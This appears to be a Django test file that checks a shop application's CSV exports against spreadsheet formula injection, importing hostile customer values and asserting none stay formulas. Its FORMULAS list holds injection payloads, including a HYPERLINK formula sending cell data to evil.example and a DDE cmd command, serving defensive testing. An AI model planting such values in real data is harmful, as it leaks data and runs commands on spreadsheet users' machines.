"""Files that are taken out: opened in a spreadsheet, nothing that customers wrote is a formula."""

import csv
import io
import re
from collections.abc import Iterator
from datetime import datetime

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import timezone

from server.accounts.test_roles import operations
from server.security.pages import pages
from server.security.test_scripts import fill, hostile_shop, staffed
from stammkunde.server.accounts import actions
from stammkunde.server.accounts.roles import Right
from stammkunde.server.lib.sheets import harmless
from stammkunde.server.lib.work import run_due
from stammkunde.server.shop.actions import importing
from thorough import sampled

pytestmark = pytest.mark.django_db(transaction=True)
FORMULAS = (
    '=HYPERLINK("https://evil.example?"&A1)',
    "  +cmd|' /C calc'!A0",
    "\t@SUM(1+1)",
    "－2+3",
    "\r=1+1",
    "-1+1|x",
)
NUMBER = re.compile(r"-?\d+([.,]\d+)?(E[+-]?\d+)?")


def exported(browser: Client, key: str) -> Iterator[tuple[str, str]]:
    """Every answer that is a table, from pages and the API."""
    for shown in pages(browser):
        if "csv" in shown.answer.headers.get("Content-Type", "") or shown.address.endswith(".csv"):
            yield shown.address, shown.body.decode()
    for method, address, _ in operations():
        answer = Client().get(address, headers={"Authorization": f"Bearer {key}"}) if method == "GET" else None
        if answer is not None and "csv" in answer.headers.get("Content-Type", ""):
            yield address, (b"".join(answer) if answer.streaming else answer.content).decode()


@pytest.mark.parametrize("formula", sampled(FORMULAS, named=ascii))
def test_nothing_that_is_taken_out_is_a_formula(formula: str, now: datetime) -> None:
    hostile_shop(formula, now)
    browser = staffed(formula, now)
    cell = formula.replace('"', '""')
    file = f'customer,date,amount\n"{cell}","{cell}","{cell}"\nAnna,2026-01-03,9\n'
    importing.lay_down(SimpleUploadedFile("orders.csv", file.encode()), now=now, by=None)
    run_due(now=timezone.now())
    fill(formula)
    key = actions.make_key(name="All", scopes=list(Right), now=now, by=None)
    seen, wrong = 0, []
    for address, text in exported(browser, key):
        if "<html" in text or text.startswith("{"):
            continue
        seen += 1
        for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")):
            wrong += [f"{address}: {cell!r}" for cell in row if harmless(cell) != cell and not NUMBER.fullmatch(cell)]
    assert wrong == []
    assert seen > 0


def test_what_is_no_formula_stays_as_it_is() -> None:
    assert [harmless(each) for each in ("Anna", "a=b", "", None, 5, "'x")] == ["Anna", "a=b", "", "", "5", "'x"]
